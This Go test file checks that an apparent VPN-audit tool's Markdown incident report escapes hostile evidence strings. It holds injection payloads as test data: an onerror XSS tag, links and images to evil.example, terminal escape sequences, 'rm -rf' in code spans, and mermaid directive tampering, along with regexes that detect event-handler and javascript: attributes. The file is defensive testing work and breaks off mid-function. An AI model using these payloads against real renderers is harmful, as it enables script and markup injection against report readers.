package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/vpnaudit/vpnaudit/internal/fixturetest"

	"github.com/google/go-cmp/cmp"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	east "github.com/yuin/goldmark/extension/ast"
	"github.com/yuin/goldmark/renderer/html"
	"github.com/yuin/goldmark/text"
	"github.com/yuin/goldmark/util"

	"github.com/vpnaudit/vpnaudit/audit"
	"github.com/vpnaudit/vpnaudit/correlate"
)

// markdownResults are the golden cases of the Markdown report: those of
// every format, the hostile-strings fixture (hostile user agent, Name tag
// and error message, through the real collector) and the no-api-cause
// fixture (an inconclusive verdict from real evidence).
func markdownResults(t *testing.T) []struct {
	name string
	r    *correlate.Result
} {
	return append(results(t),
		struct {
			name string
			r    *correlate.Result
		}{"hostile-strings", fixturetest.Result(t, "hostile-strings", hostileStringsAlarm)},
		struct {
			name string
			r    *correlate.Result
		}{"no-api-cause", fixturetest.Result(t, "no-api-cause", "syd1-dc-link/TunnelState")})
}

// hostileStringsAlarm is the hostile-strings fixture's alarm (its facts).
const hostileStringsAlarm = "yul1 VPN 'dc' down #netops"

func TestMarkdownGolden(t *testing.T) {
	for _, rc := range markdownResults(t) {
		for _, tc := range []struct {
			suffix string
			opt    MarkdownOptions
		}{
			{"md", MarkdownOptions{}},
			{"tokyo.md", MarkdownOptions{TZ: tokyo(t)}},
		} {
			t.Run(rc.name+"/"+tc.suffix, func(t *testing.T) {
				var b bytes.Buffer
				if err := Markdown(&b, rc.r, tc.opt); err != nil {
					t.Fatal(err)
				}
				golden(t, rc.name+"."+tc.suffix, b.Bytes())
			})
		}
	}
}

// unescapedPipes counts the | of a table row that are not escaped.
func unescapedPipes(row string) int {
	n := 0
	for i := 0; i < len(row); i++ {
		switch row[i] {
		case '\\':
			i++
		case '|':
			n++
		}
	}
	return n
}

// outsideFences is doc without its fenced code blocks.
func outsideFences(doc string) string {
	var b strings.Builder
	inFence := ""
	for _, l := range strings.Split(doc, "\n") {
		switch {
		case inFence != "":
			if l == inFence {
				inFence = ""
			}
		case strings.HasPrefix(l, "```"):
			inFence = strings.TrimRight(l, "abcdefghijklmnopqrstuvwxyz")
		default:
			b.WriteString(l + "\n")
		}
	}
	return b.String()
}

// tables returns each GFM table of doc as its lines.
func tables(doc string) [][]string {
	var out [][]string
	var cur []string
	inFence := ""
	for _, l := range strings.Split(doc, "\n") {
		if inFence != "" {
			if l == inFence {
				inFence = ""
			}
			continue
		}
		if strings.HasPrefix(l, "```") {
			inFence = strings.TrimRight(l, "abcdefghijklmnopqrstuvwxyz")
			continue
		}
		if strings.HasPrefix(l, "|") {
			cur = append(cur, l)
			continue
		}
		if cur != nil {
			out = append(out, cur)
			cur = nil
		}
	}
	return out
}

func TestMarkdownStructure(t *testing.T) {
	for _, rc := range markdownResults(t) {
		for _, opt := range []MarkdownOptions{{}, {TZ: tokyo(t)}} {
			var b bytes.Buffer
			if err := Markdown(&b, rc.r, opt); err != nil {
				t.Fatal(err)
			}
			doc := b.String()
			// Every row of every table has as many cells as its header.
			for _, tbl := range tables(doc) {
				want := unescapedPipes(tbl[0])
				for _, row := range tbl[1:] {
					if got := unescapedPipes(row); got != want {
						t.Errorf("%s: row has %d cell separators, header %d:\n%s\n%s", rc.name, got, want, tbl[0], row)
					}
				}
			}
			// The timeline table has one row per entry.
			sec := doc[strings.Index(doc, "## Timeline"):]
			sec = sec[:strings.Index(sec, "\n## ")]
			tbl := tables(sec)
			if len(tbl) != 1 || len(tbl[0]) != len(rc.r.Timeline)+2 {
				t.Errorf("%s: timeline table has %d lines, want %d entries + 2", rc.name, len(tbl[0]), len(rc.r.Timeline))
			}
			// Headings are only the report's own (a # in a code block is not one).
			for _, l := range strings.Split(outsideFences(doc), "\n") {
				if strings.HasPrefix(l, "#") && !regexp.MustCompile(`^#{1,4} (Incident: |Summary$|Impact window$|Root cause|Causal chain$|Contributing factors$|Recommendations$|Timeline$|Evidence$|Changes |Traffic |Metrics |Tunnel telemetry |Rejected hypotheses$|#\d+ |Scope$|How this was determined$|Coverage$|API calls$|Queries to reproduce the evidence$|Alarm and metrics |Scope and tunnel telemetry |Flow logs |Logs Insights: |Console links$)`).MatchString(l) {
					t.Errorf("%s: unexpected heading %q", rc.name, l)
				}
			}
			// No control character, no HTML but the <br> line breaks.
			if m := controls.FindString(doc); m != "" {
				t.Errorf("%s: control character %q", rc.name, m)
			}
			if m := regexp.MustCompile(`<[^b]|<b[^r]`).FindString(outsideFences(doc)); m != "" {
				t.Errorf("%s: raw HTML %q", rc.name, m)
			}
		}
	}
}

func TestMarkdownHostile(t *testing.T) {
	var b bytes.Buffer
	if err := Markdown(&b, hostileResult(), MarkdownOptions{}); err != nil {
		t.Fatal(err)
	}
	doc := b.String()
	// The request's four backticks need a five-backtick fence.
	if !strings.Contains(doc, "\n`````json\n") {
		t.Errorf("request parameters not fenced with five backticks:\n%s", doc)
	}
	text := outsideFences(doc)
	for _, bad := range []string{"<img", "<script", "<b>", "\n# not a heading", "\n- nor this", "\n## injected"} {
		if strings.Contains(text, bad) {
			t.Errorf("document contains %q outside code blocks", bad)
		}
	}
	// Links, emphasis and code spans from the data are all escaped (the
	// console links are the report's own; TestMarkdownGFM checks them).
	text = text[:strings.Index(text, "### Console links")]
	if m := regexp.MustCompile("[^\\\\]\\]\\(|[^\\\\]\\*ops|[^\\\\]`").FindString(text); m != "" {
		t.Errorf("unescaped markup %q", m)
	}
}

func TestMarkdownNoResult(t *testing.T) {
	for _, r := range []*correlate.Result{nil, {}} {
		if err := Markdown(&bytes.Buffer{}, r, MarkdownOptions{}); err == nil {
			t.Errorf("Markdown(%v) returned no error", r)
		}
	}
}

func TestMDEscape(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain", "StopInstances on i-0abc by alice", "StopInstances on i-0abc by alice"},
		{"empty", "", ""},
		{"pipe", "a|b", `a\|b`},
		{"newline", "line one\nline two", "line one<br>line two"},
		{"crlf", "a\r\nb", "a<br>b"},
		{"backticks", "run `rm -rf` now", "run \\`rm -rf\\` now"},
		{"html", "<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"},
		{"entity", "&lt; stays text", "&amp;lt; stays text"},
		{"link", "[click](http://evil)", `\[click\](http\://evil)`},
		{"bare URL", "see https://evil.example/x", `see https\://evil.example/x`},
		{"www", "www.evil.example and (WWW.evil.example)", `www\.evil.example and (WWW\.evil.example)`},
		{"www inside a word", "awww.example", "awww.example"},
		{"address", "dana@example.com", `dana\@example.com`},
		{"colon alone", "arn:aws:ec2 at 21:52:41", "arn:aws:ec2 at 21:52:41"},
		{"image", "![x](y)", `!\[x\](y)`},
		{"emphasis", "*bold* _it_ ~~del~~", `\*bold\* \_it\_ \~\~del\~\~`},
		{"heading marker", "# not a heading", `\# not a heading`},
		{"heading after a newline", "x\n# y", `x<br>\# y`},
		{"math", "$x$", `\$x\$`},
		{"backslash", `C:\temp`, `C:\\temp`},
		{"list dash", "- item", `\- item`},
		{"list plus", "+ item", `\+ item`},
		{"rule", "---", `\---`},
		{"dash in a word", "-abc", "-abc"},
		{"ordered list", "1. item", `1\. item`},
		{"ordered list paren", "12) item", `12\) item`},
		{"number", "1.033", "1.033"},
		{"date", "2026-10-14 02:33:00", "2026-10-14 02:33:00"},
		{"setext underline", "===", `\===`},
		{"indented code", "    code", " code"},
		{"leading space kept single", " by alice", " by alice"},
		{"list after a leading space", " - item", ` \- item`},
		{"escape sequences", "a\x1b[31mred\x1b[0m\x1b]8;;http://evil\x07b", "aredb"},
		{"controls", "a\x00b\x07c\x7fd\u0085e", "abcd<br>e"},
		{"tab", "a\tb", "a b"},
		{"unicode", "tunnel “1” → OK", "tunnel “1” → OK"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if diff := cmp.Diff(tc.want, mdEscape(tc.in)); diff != "" {
				t.Errorf("mdEscape(%q) (-want +got):\n%s", tc.in, diff)
			}
		})
	}
}

func TestMDFence(t *testing.T) {
	tests := []struct {
		name, lang, body, want string
	}{
		{"plain", "json", `{"a": 1}`, "```json\n{\"a\": 1}\n```\n"},
		{"keeps a final newline", "", "x\n", "```\nx\n```\n"},
		{"three backticks inside", "json", "a ``` b", "````json\na ``` b\n````\n"},
		{"five backticks inside", "", "`````", "``````\n`````\n``````\n"},
		{"sanitized, lines kept", "", "a\x1b[31m\r\nb", "```\na\nb\n```\n"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if diff := cmp.Diff(tc.want, mdFence(tc.lang, tc.body)); diff != "" {
				t.Errorf("mdFence (-want +got):\n%s", diff)
			}
		})
	}
}

// ---- rendering with a real CommonMark + GFM parser ----

// gfm parses and renders Markdown as GitHub does: CommonMark plus the GFM
// extensions (tables, strikethrough, autolinks, task lists). Raw HTML is
// passed through when rendering, so that any that got in shows.
var gfm = goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))

// plain is the text a reader sees in n: backslash escapes and character
// references resolved, <br> as a line break.
func plain(n ast.Node, src []byte) string {
	var b strings.Builder
	var walk func(ast.Node)
	walk = func(n ast.Node) {
		switch x := n.(type) {
		case *ast.Text:
			b.Write(util.ResolveEntityNames(util.ResolveNumericReferences(util.UnescapePunctuations(x.Segment.Value(src)))))
			if x.SoftLineBreak() || x.HardLineBreak() {
				b.WriteByte('\n')
			}
			return
		case *ast.String:
			b.Write(x.Value)
			return
		case *ast.RawHTML:
			b.WriteByte('\n') // only <br> gets here (checkGFM)
			return
		}
		for c := n.FirstChild(); c != nil; c = c.NextSibling() {
			walk(c)
		}
	}
	walk(n)
	return b.String()
}

// rawHTML is the source of an inline HTML node.
func rawHTML(x *ast.RawHTML, src []byte) string {
	var b strings.Builder
	for i := 0; i < x.Segments.Len(); i++ {
		s := x.Segments.At(i)
		b.Write(s.Value(src))
	}
	return b.String()
}

// cellTexts are the plain texts of a table row's cells.
func cellTexts(row ast.Node, src []byte) []string {
	var out []string
	for c := row.FirstChild(); c != nil; c = c.NextSibling() {
		out = append(out, strings.TrimSpace(plain(c, src)))
	}
	return out
}

// wantCell is what a reader must see in the cell of an evidence string.
func wantCell(s string) string {
	if s = strings.TrimSpace(SanitizeBlock(s)); s == "" {
		return "—"
	}
	return s
}

// gfmTable is one table of the report and the headings it is under.
type gfmTable struct {
	h2, h3 string
	head   []string
	rows   [][]string
}

var strongLabel = regexp.MustCompile(`^(Alarm|Condition|Actions|Episode|Breach start from|Confidence|Why not|For|Detection|Failed call \(intent\)|Evidence gap):$`)

// checkGFM parses doc with goldmark + GFM and checks that its structure is
// only the report's own, whatever the evidence strings hold: no raw HTML
// but <br>, no link or image but the console links and the chart, no
// autolink, headings, lists, tables, emphasis and code blocks only where
// the report puts them, and every table row is one event whose cells read
// back exactly the evidence strings.
func checkGFM(t *testing.T, name string, r *correlate.Result, opt MarkdownOptions, doc []byte) {
	t.Helper()
	for _, p := range gfmProblems(name, r, opt, doc) {
		t.Error(p)
	}
}

// gfmProblems are what checkGFM reports.
func gfmProblems(name string, r *correlate.Result, opt MarkdownOptions, doc []byte) []string {
	var problems []string
	t := problemT{&problems}
	root := gfm.Parser().Parse(text.NewReader(doc))
	ev := r.Evidence
	v := r.Verdict
	base := consoleBase(ev.Region)
	isCause := v.Cause != nil && v.Status == correlate.StatusRootCause
	causeID := ""
	if v.Cause != nil {
		causeID = v.Cause.Change.EventID
	}

	var (
		h1, h2, h3, h4                   []string
		links, images, boxes, items, ems int
		fences                           []*ast.FencedCodeBlock
	)
	err := ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch x := n.(type) {
		case *ast.Heading:
			txt := plain(x, doc)
			switch x.Level {
			case 1:
				h1 = append(h1, txt)
			case 2:
				h2 = append(h2, txt)
			case 3:
				h3 = append(h3, txt)
			case 4:
				h4 = append(h4, txt)
			default:
				t.Errorf("%s: level-%d heading %q", name, x.Level, txt)
			}
		case *ast.HTMLBlock:
			t.Errorf("%s: HTML block at line %d", name, x.Lines().At(0).Start)
		case *ast.RawHTML:
			if h := rawHTML(x, doc); h != "<br>" {
				t.Errorf("%s: raw HTML %q", name, h)
			}
		case *ast.AutoLink:
			t.Errorf("%s: autolink %q", name, x.URL(doc))
		case *ast.Link:
			links++
			if dest := string(x.Destination); base == "" || !strings.HasPrefix(dest, base) {
				t.Errorf("%s: link to %q (text %q) is not one of the report's console links", name, dest, plain(x, doc))
			}
		case *ast.Image:
			images++
			if dest := string(x.Destination); opt.ChartPath == "" || dest != urlPath(opt.ChartPath) {
				t.Errorf("%s: image %q is not the chart", name, dest)
			}
		case *ast.CodeSpan:
			t.Errorf("%s: code span %q", name, plain(x, doc))
		case *ast.CodeBlock:
			t.Errorf("%s: indented code block", name)
		case *ast.FencedCodeBlock:
			fences = append(fences, x)
		case *ast.Blockquote:
			t.Errorf("%s: block quote %q", name, plain(x, doc))
		case *ast.ThematicBreak:
			t.Errorf("%s: thematic break", name)
		case *east.Strikethrough:
			t.Errorf("%s: strikethrough %q", name, plain(x, doc))
		case *east.TaskCheckBox:
			boxes++
		case *ast.ListItem:
			items++
		case *ast.Emphasis:
			txt := plain(x, doc)
			parent := x.Parent()
			switch {
			case x.Level == 1:
				ems++
			case strongLabel.MatchString(txt):
			case parent.Kind() == east.KindTableCell && parent.ChildCount() == 1:
				// a whole cell: the cause's row, a coverage status
			case isCause && parent.Kind() == ast.KindParagraph && parent.FirstChild() == x && txt == v.Cause.Change.EventName:
			default:
				t.Errorf("%s: bold text %q that the report does not make", name, txt)
			}
		}
		return ast.WalkContinue, nil
	})
	if err != nil {
		return append(problems, err.Error())
	}

	// Headings: the report's sections, in order.
	if len(h1) != 1 || !strings.HasPrefix(h1[0], "Incident: ") {
		t.Errorf("%s: title headings %q", name, h1)
	}
	rc := "Root cause"
	if !isCause {
		rc = "Root cause: not determined"
	}
	wantH2 := []string{"Summary", "Impact window", rc, "Causal chain", "Contributing factors", "Recommendations", "Timeline", "Evidence", "Rejected hypotheses", "Scope", "How this was determined"}
	if diff := cmp.Diff(wantH2, h2); diff != "" {
		t.Errorf("%s: sections (-want +got):\n%s", name, diff)
	}
	rejected := 0
	for _, h := range r.Hypotheses {
		if causeID == "" || h.Change.EventID != causeID {
			rejected++
		}
	}
	own3 := []string{"Changes (CloudTrail)", "Traffic (VPC flow logs)", "Metrics (CloudWatch)", "Tunnel telemetry (EC2 DescribeVpnConnections)",
		"Coverage", "API calls", "Queries to reproduce the evidence", "Console links"}
	n := 0
	for _, h := range h3 {
		switch {
		case slices.Contains(own3, h):
		case regexp.MustCompile(`^#\d+ `).MatchString(h):
			n++
		default:
			t.Errorf("%s: heading %q", name, h)
		}
	}
	if n != rejected {
		t.Errorf("%s: %d rejected-hypothesis headings, want %d", name, n, rejected)
	}
	for _, h := range h4 {
		if !slices.Contains([]string{"Alarm and metrics (CloudWatch)", "Changes (CloudTrail)", "Scope and tunnel telemetry (EC2)",
			"Flow logs (CloudWatch Logs)", "Logs Insights: the appliance's traffic with the tunnel endpoints"}, h) {
			t.Errorf("%s: heading %q", name, h)
		}
	}

	// Links and images: the console links and the chart, and nothing else.
	wantLinks := 0
	if base != "" {
		if ev.Incident.Alarm.Name != "" {
			wantLinks++
		}
		for _, h := range r.Hypotheses {
			if h.Change.EventID != "" {
				wantLinks++
			}
		}
		if causeID != "" && !slices.ContainsFunc(r.Hypotheses, func(h correlate.Hypothesis) bool { return h.Change.EventID == causeID }) {
			wantLinks++
		}
		for _, res := range ev.Scope.Resources {
			if res.Type == audit.TypeVPN {
				wantLinks++
			}
		}
		wantLinks += len(ev.Scope.Appliances)
	}
	if links != wantLinks {
		t.Errorf("%s: %d links, want %d", name, links, wantLinks)
	}
	if want := map[bool]int{true: 1, false: 0}[opt.ChartPath != ""]; images != want {
		t.Errorf("%s: %d images, want %d", name, images, want)
	}

	// Lists: exactly the report's items.
	a := ev.Incident.Alarm
	want := 2 // impact: alarm, condition
	for _, s := range []string{strings.Join(a.Actions, ""), ev.Incident.Selection, ev.Incident.Episode.BreachBasis} {
		if s != "" {
			want++
		}
	}
	want += len(v.ConfidenceWhy) + len(v.Chain) + len(v.Recommendations) + len(ev.Traffic.Malformed)
	if isCause {
		want += len(v.Cause.Effects)
	}
	want++ // contributing: detection
	for _, h := range r.Hypotheses {
		if h.Change.Failed() {
			want++
		}
		if causeID == "" || h.Change.EventID != causeID {
			want += len(h.Why) + len(h.WhyNot)
		}
	}
	for _, c := range ev.Coverage {
		if c.Status != audit.CoverageOK {
			want++
		}
	}
	if base != "" {
		want += 1 + map[bool]int{true: 1}[causeID != ""] + map[bool]int{true: 1}[rejected > 0]
		if slices.ContainsFunc(ev.Scope.Resources, func(r audit.Resource) bool { return r.Type == audit.TypeVPN }) {
			want++
		}
		if len(ev.Scope.Appliances) > 0 {
			want++
		}
	}
	if items != want {
		t.Errorf("%s: %d list items, want %d", name, items, want)
	}
	if boxes != len(v.Recommendations) {
		t.Errorf("%s: %d task boxes, want one per recommendation (%d)", name, boxes, len(v.Recommendations))
	}
	if ems != 1 {
		t.Errorf("%s: %d italic spans, want 1 (the draft note)", name, ems)
	}

	// Code blocks: the request parameters, the flowchart, the commands and
	// the Logs Insights queries.
	langs := map[string]int{}
	for _, f := range fences {
		lang := string(f.Language(doc))
		langs[lang]++
		if lang == "mermaid" {
			var body strings.Builder
			for i := 0; i < f.Lines().Len(); i++ {
				s := f.Lines().At(i)
				body.Write(s.Value(doc))
			}
			checkMermaid(t, name, r, body.String())
		}
	}
	wantJSON := 0
	if isCause && v.Cause.Change.Request != "" {
		wantJSON = 1
	}
	if langs["json"] != wantJSON || langs["mermaid"] != 1 || langs["bash"] < 3 || len(langs) > 4 || len(fences) != langs["json"]+langs["mermaid"]+langs["bash"]+langs["text"] {
		t.Errorf("%s: code blocks by language %v", name, langs)
	}

	// Tables: every row has the header's cells, and the evidence reads back.
	var tables []gfmTable
	cur := gfmTable{}
	for c := root.FirstChild(); c != nil; c = c.NextSibling() {
		switch x := c.(type) {
		case *ast.Heading:
			switch x.Level {
			case 2:
				cur.h2, cur.h3 = plain(x, doc), ""
			case 3:
				cur.h3 = plain(x, doc)
			}
		case *east.Table:
			tb := gfmTable{h2: cur.h2, h3: cur.h3}
			for row := x.FirstChild(); row != nil; row = row.NextSibling() {
				cells := cellTexts(row, doc)
				if row.Kind() == east.KindTableHeader {
					tb.head = cells
					continue
				}
				if len(cells) != len(tb.head) {
					t.Errorf("%s: %s/%s: row of %d cells under a header of %d", name, tb.h2, tb.h3, len(cells), len(tb.head))
				}
				tb.rows = append(tb.rows, cells)
			}
			tables = append(tables, tb)
		}
	}
	find := func(h2, h3 string) *gfmTable {
		for i := range tables {
			if tables[i].h2 == h2 && tables[i].h3 == h3 {
				return &tables[i]
			}
		}
		return nil
	}
	if tl := find("Timeline", ""); tl == nil {
		t.Errorf("%s: no timeline table", name)
	} else if len(tl.rows) != len(r.Timeline) {
		t.Errorf("%s: timeline table has %d rows, want one per entry (%d)", name, len(tl.rows), len(r.Timeline))
	} else {
		for i, e := range r.Timeline {
			row := tl.rows[i]
			if got := row[len(row)-1]; got != wantCell(e.Source) {
				t.Errorf("%s: timeline row %d: source %q, want %q", name, i, got, wantCell(e.Source))
			}
			if got := row[len(row)-2]; got != wantCell(e.Summary) {
				t.Errorf("%s: timeline row %d: what %q, want %q", name, i, got, wantCell(e.Summary))
			}
			if got := row[len(row)-4]; got != e.Role {
				t.Errorf("%s: timeline row %d: role %q, want %q", name, i, got, e.Role)
			}
		}
	}
	if len(r.Hypotheses) > 0 {
		ch := find("Evidence", "Changes (CloudTrail)")
		if ch == nil || len(ch.rows) != len(r.Hypotheses) {
			t.Errorf("%s: changes table missing or not one row per hypothesis", name)
		} else {
			for i, h := range r.Hypotheses {
				c := h.Change
				result := "ok"
				if c.Failed() {
					result = joinNonEmpty(": ", c.ErrorCode, c.ErrorMessage)
				}
				got := ch.rows[i]
				if got[3] != wantCell(c.Actor.Name) || got[7] != wantCell(result) || got[8] != wantCell(c.EventID) {
					t.Errorf("%s: changes row %d reads %q", name, i, got)
				}
			}
		}
	}
	if sc := find("Scope", ""); len(ev.Scope.Resources) > 0 {
		if sc == nil || len(sc.rows) != len(ev.Scope.Resources) {
			t.Errorf("%s: scope table missing or not one row per resource", name)
		} else {
			for i, res := range ev.Scope.Resources {
				if got := sc.rows[i]; got[0] != wantCell(res.ID) || got[2] != wantCell(res.Name) || got[3] != wantCell(res.Relation) {
					t.Errorf("%s: scope row %d reads %q", name, i, got)
				}
			}
		}
	}
	if isCause {
		rec := find("Root cause", "")
		if rec == nil {
			t.Errorf("%s: no CloudTrail record table", name)
		} else if c := v.Cause.Change; c.UserAgent != "" {
			found := false
			for _, row := range rec.rows {
				if row[0] == "User agent" {
					found = true
					if row[1] != wantCell(c.UserAgent) {
						t.Errorf("%s: user agent reads %q, want %q", name, row[1], wantCell(c.UserAgent))
					}
				}
			}
			if !found {
				t.Errorf("%s: no user agent row", name)
			}
		}
	}

	// The rendered HTML: only the report's own elements and attributes.
	var out bytes.Buffer
	if err := gfm.Convert(doc, &out); err != nil {
		return append(problems, err.Error())
	}
	allowed := []string{"h1", "h2", "h3", "h4", "p", "em", "strong", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "a", "img", "br", "pre", "code", "input"}
	for _, m := range regexp.MustCompile(`<(/?)([a-zA-Z][a-zA-Z0-9-]*)([^>]*)>`).FindAllStringSubmatch(out.String(), -1) {
		tag, attrs := strings.ToLower(m[2]), m[3]
		if !slices.Contains(allowed, tag) {
			t.Errorf("%s: HTML element <%s%s>", name, tag, attrs)
		}
		if regexp.MustCompile(`(?i)\son\w+\s*=|style\s*=|javascript:`).MatchString(attrs) {
			t.Errorf("%s: HTML attributes %q", name, attrs)
		}
		if tag == "a" && m[1] == "" && (base == "" || !strings.HasPrefix(attrs, ` href="`+base)) {
			t.Errorf("%s: <a%s>", name, attrs)
		}
	}
	if strings.Contains(out.String(), "<!--") {
		t.Errorf("%s: HTML comment in the output", name)
	}
	return problems
}

// problemT collects problems the way testing.T reports errors.
type problemT struct{ ps *[]string }

func (p problemT) Errorf(format string, args ...any) {
	*p.ps = append(*p.ps, fmt.Sprintf(format, args...))
}
func (p problemT) Helper() {}

var (
	mmdLineRE   = regexp.MustCompile(`^(flowchart TD|  n\d+\["(.*)"\]|  n0\{\{"(.*)"\}\}|  na\(\["(.*)"\]\)|  subgraph g_[a-z]+ \["[a-zA-Z ()]+"\]|    direction TB|    n\d+\["(.*)"\]|    n\d+ ~~~ n\d+|  end|  n\d+ --> n\d+|  n0 -\.-> (g_[a-z]+|na)|  g_[a-z]+ --> na|  classDef [a-z]+ [a-z0-9:#,. -]+|  class n[0-9a]+ [a-z]+)$`)
	mmdEntityRE = regexp.MustCompile(`#([a-z]+|[0-9]+);`)
)

// checkMermaid checks the flowchart's source line by line against the
// shapes the report writes, that no label can end its quotes or hold
// markup (only entity codes and the report's <br>), and that the chain's
// labels read back as the chain.
func checkMermaid(t interface {
	Helper()
	Errorf(string, ...any)
}, name string, r *correlate.Result, body string) {
	t.Helper()
	var labels []string
	for _, l := range strings.Split(strings.TrimSuffix(body, "\n"), "\n") {
		m := mmdLineRE.FindStringSubmatch(l)
		if m == nil {
			t.Errorf("%s: flowchart line %q is not one the report writes", name, l)
			continue
		}
		for _, lab := range m[2:6] {
			if lab == "" {
				continue
			}
			rest := mmdEntityRE.ReplaceAllString(strings.ReplaceAll(lab, "<br>", ""), "")
			if i := strings.IndexAny(rest, "\"#;<>&`[]{}|%\\"); i >= 0 {
				t.Errorf("%s: flowchart label holds %q: %s", name, rest[i], lab)
			}
			if strings.HasPrefix(l, "  n") && strings.Contains(l, `["`) && !strings.HasPrefix(l, "  na") {
				labels = append(labels, lab)
			}
		}
	}
	ch := r.Verdict.Chain
	if len(ch) == 0 {
		return
	}
	if len(labels) != len(ch) {
		t.Errorf("%s: %d flowchart nodes for %d chain steps", name, len(labels), len(ch))
		return
	}
	decode := func(s string) string {
		s = strings.ReplaceAll(s, "<br>", " ")
		return mmdEntityRE.ReplaceAllStringFunc(s, func(e string) string {
			code := e[1 : len(e)-1]
			if n, err := strconv.Atoi(code); err == nil {
				return string(rune(n))
			}
			return map[string]string{"quot": `"`, "lt": "<", "gt": ">", "amp": "&"}[code]
		})
	}
	squash := func(s string) string { return strings.Join(strings.Fields(s), "") }
	for i, step := range ch {
		got, want := squash(decode(labels[i])), squash(Sanitize(step))
		if strings.HasSuffix(got, "…") && len([]rune(Sanitize(step))) > mmdLabelMax {
			got = strings.TrimSuffix(got, "…")
			want = string([]rune(want)[:len([]rune(got))])
		}
		if got != want {
			t.Errorf("%s: flowchart node %d reads %q, want %q", name, i+1, got, want)
		}
	}
}

func TestMarkdownGFM(t *testing.T) {
	for _, rc := range markdownResults(t) {
		for _, opt := range []MarkdownOptions{{}, {TZ: tokyo(t)}, {ChartPath: "vpn-down chart (1).svg"}} {
			var b bytes.Buffer
			if err := Markdown(&b, rc.r, opt); err != nil {
				t.Fatal(err)
			}
			checkGFM(t, fmt.Sprintf("%s%+v", rc.name, opt), rc.r, opt, b.Bytes())
		}
	}
}

// Every bundle of the catalog renders to a report whose structure is only
// the report's own. The alarm is the one the bundle's alarm history is for.
func TestMarkdownGFMCatalog(t *testing.T) {
	files, err := filepath.Glob(filepath.Join("..", "fixtures", "*", "cloudwatch", "DescribeAlarmHistory*.json"))
	if err != nil || len(files) < 19 {
		t.Fatalf("alarm histories of the catalog: %d (%v)", len(files), err)
	}
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		var hist struct{ Input struct{ AlarmName string } }
		if err := json.Unmarshal(data, &hist); err != nil || hist.Input.AlarmName == "" {
			t.Fatalf("%s: no alarm name (%v)", f, err)
		}
		name := filepath.Base(filepath.Dir(filepath.Dir(f)))
		t.Run(name, func(t *testing.T) {
			r := fixturetest.Result(t, name, hist.Input.AlarmName)
			for _, opt := range []MarkdownOptions{{}, {TZ: tokyo(t), ChartPath: name + ".svg"}} {
				var b bytes.Buffer
				if err := Markdown(&b, r, opt); err != nil {
					t.Fatal(err)
				}
				checkGFM(t, name, r, opt, b.Bytes())
			}
		})
	}
}

// checkGFM sees what an escaping bug would let through: each tampering of
// a clean report is caught.
func TestGFMCheckCatches(t *testing.T) {
	r := fixtureResult(t, "lab-console-stop")
	var b bytes.Buffer
	if err := Markdown(&b, r, MarkdownOptions{}); err != nil {
		t.Fatal(err)
	}
	doc := b.String()
	if ps := gfmProblems("clean", r, MarkdownOptions{}, b.Bytes()); len(ps) > 0 {
		t.Fatalf("clean report: %q", ps)
	}
	row := "| 21:52:45 | effect | traffic | IPsec with"
	for what, tamper := range map[string]func(string) string{
		"a pipe in a cell": func(d string) string {
			return strings.Replace(d, row, "| 21:52:45 | effect | traffic | a | b | IPsec with", 1)
		},
		"a line break in a row": func(d string) string {
			return strings.Replace(d, row, "| 21:52:45 | effect | traffic |\nIPsec with", 1)
		},
		"HTML": func(d string) string {
			return strings.Replace(d, "stops the appliance", "stops <img src=x onerror=alert(1)> the appliance", 1)
		},
		"a link": func(d string) string {
			return strings.Replace(d, "stops the appliance", "stops [the appliance](http://evil.example)", 1)
		},
		"an autolink": func(d string) string { return strings.Replace(d, "stops the appliance", "stops www.evil.example", 1) },
		"an address":  func(d string) string { return strings.Replace(d, "stops the appliance", "stops a@evil.example", 1) },
		"an image": func(d string) string {
			return strings.Replace(d, "stops the appliance", "![x](http://evil.example/x.png)", 1)
		},
		"a code span":   func(d string) string { return strings.Replace(d, "stops the appliance", "stops `the appliance`", 1) },
		"a heading":     func(d string) string { return strings.Replace(d, "\n## Timeline", "\n# pwned\n\n## Timeline", 1) },
		"a list item":   func(d string) string { return strings.Replace(d, "\n## Timeline", "\n- injected\n\n## Timeline", 1) },
		"emphasis":      func(d string) string { return strings.Replace(d, "stops the appliance", "stops *the* appliance", 1) },
		"strikethrough": func(d string) string { return strings.Replace(d, "stops the appliance", "stops ~~the~~ appliance", 1) },
		"a closed fence": func(d string) string {
			return strings.Replace(d, "  n1 --> n2\n", "```\n# out\n```mermaid\n  n1 --> n2\n", 1)
		},
		"a mermaid quote": func(d string) string {
			return strings.Replace(d, "<br>(dc1-strongswan) by<br>", `<br>(dc1-strongswan)"] --> x["by<br>`, 1)
		},
		"a mermaid directive": func(d string) string {
			return strings.Replace(d, "<br>(dc1-strongswan) by<br>", "<br>%%{init: {}}%% by<br>", 1)
		},
	} {
		bad := tamper(doc)
		if bad == doc {
			t.Fatalf("%s: tampering changed nothing", what)
		}
		if ps := gfmProblems(what, r, MarkdownOptions{}, []byte(bad)); len(ps) == 0 {
			t.Errorf("%s: not caught", what)
		}
	}
}

// The hostile fixture's payloads are all there, and all inert: the
// rendered page holds none of their markup, and the reader sees them as
// text (sanitized).
func TestMarkdownHostileFixture(t *testing.T) {
	r := fixturetest.Result(t, "hostile-strings", hostileStringsAlarm)
	c := r.Verdict.Cause
	if r.Verdict.Status != correlate.StatusRootCause || c == nil || c.Change.EventID != "094dc055-4bf1-44f7-bf67-24163412e7af" || len(c.Targets) == 0 {
		t.Fatalf("verdict %s, cause %+v: want the StopInstances (the fixture's facts)", r.Verdict.Status, c)
	}
	for what, s := range map[string]string{"user agent": c.Change.UserAgent, "Name tag": c.Targets[0].Name} {
		for _, p := range []string{"<", "](http", "\x1b]8;;", "\u202e", "`", "|", "\n# "} {
			if !strings.Contains(s, p) {
